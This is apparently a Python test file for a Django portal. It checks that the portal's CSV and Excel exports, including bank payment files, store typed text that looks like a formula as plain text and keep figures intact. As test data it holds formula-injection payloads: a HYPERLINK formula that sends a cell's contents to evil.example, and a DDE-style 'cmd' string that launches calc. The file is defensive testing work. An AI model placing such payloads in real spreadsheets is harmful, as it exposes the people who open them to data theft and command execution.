"""Tables that people take away: nobody's typing becomes a formula there, figures stay figures, ours read back."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from applying import a_filed
from city import City
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from duixian.portal.accounts.models import Organisation
from duixian.portal.payments.bankfile import SENT, as_csv, as_xlsx
from duixian.portal.payments.models import Account, Order
from duixian.portal.web import written
from duixian.portal.web.sheets import Column, read_sheet, read_table, write_sheet
from duixian.portal.web.written import csv_of

pytestmark = pytest.mark.usefixtures("settled_city")
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
STARTS = ("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＠x", "'=1+1")


class Batch:
    """What finance sends to a bank at which somebody says that the payee has an account."""

    @property
    def orders(self) -> list[Order]:
        return [Order("k1", Account(holder=EVIL, bank="@某银行", number="00123"), 1_050, "用途")]


@pytest.mark.parametrize("typed", STARTS)
def test_typing_that_looks_like_a_formula_is_text_in_a_csv_file_and_reads_back(typed: str) -> None:
    file = csv_of([["企业名称"], [typed]])
    cells = [line.strip('"') for line in file.decode("utf-8-sig").split("\r\n", 1)[1:]]
    assert cells[0].startswith("'")
    assert read_table(file) == [["企业名称"], [typed]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1))
def test_every_row_reads_back_as_it_was(row: list[str]) -> None:
    assert read_table(csv_of([row])) == [row]


@pytest.mark.parametrize("figure", ["-5.20", "+3", "1,200.00", "0", "00123"])
def test_figures_stay_as_they_are(figure: str) -> None:
    assert csv_of([[figure, "x"]]).decode("utf-8-sig").replace('"', "") == f"{figure},x\r\n"


def test_banks_file_has_the_figures_and_no_formula() -> None:
    plain = ("k1", EVIL, "@某银行", "00123", "10.50", "用途")
    quoted = EVIL.replace('"', '""')
    assert as_csv(Batch()).decode("utf-8-sig").split("\r\n")[1] == f"k1,\"'{quoted}\",'@某银行,00123,10.50,用途"
    assert read_table(as_csv(Batch())) == [list(SENT), list(plain)]
    assert read_table(as_xlsx(Batch())) == [list(SENT), list(plain)]
    assert formulas(as_xlsx(Batch())) == 0


def test_workbook_to_fill_in_holds_texts_only() -> None:
    name = Column("name", "企业名称")
    book = write_sheet([name], [[EVIL], ["external:c:\\x.xlsx"]])
    assert formulas(book) == 0
    assert [row.cells["name"] for row in read_sheet(book, [name])] == [EVIL, "external:c:\\x.xlsx"]


def test_workbook_of_applications_holds_a_malicious_name_as_text(city: City, as_: Callable[..., Client]) -> None:
    Organisation.objects.filter(pk=city.enterprise().pk).update(name=EVIL)
    a_filed(city)
    book = as_("city_clerk").get("/inbox/sheet.xlsx?scope=all").content
    assert formulas(book) == 0
    assert EVIL in [cell for row in read_table(book) for cell in row]


def formulas(book: bytes) -> int:
    """How many cells of a workbook are formulas or lead elsewhere; the totals of our own are numbers."""
    with zipfile.ZipFile(io.BytesIO(book)) as package:
        sheets = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/")]
    return sum(sheet.count("<f>") + sheet.count("<hyperlink") for sheet in sheets)


def test_site_writes_its_tables_in_one_place() -> None:
    """A new page cannot forget it."""
    place = Path(written.__file__)
    sources = [file for file in place.parents[1].rglob("*.py") if file != place]
    assert [
        file.name for file in sources if any(made in file.read_text() for made in ("xlsxwriter", "csv.writer"))
    ] == []
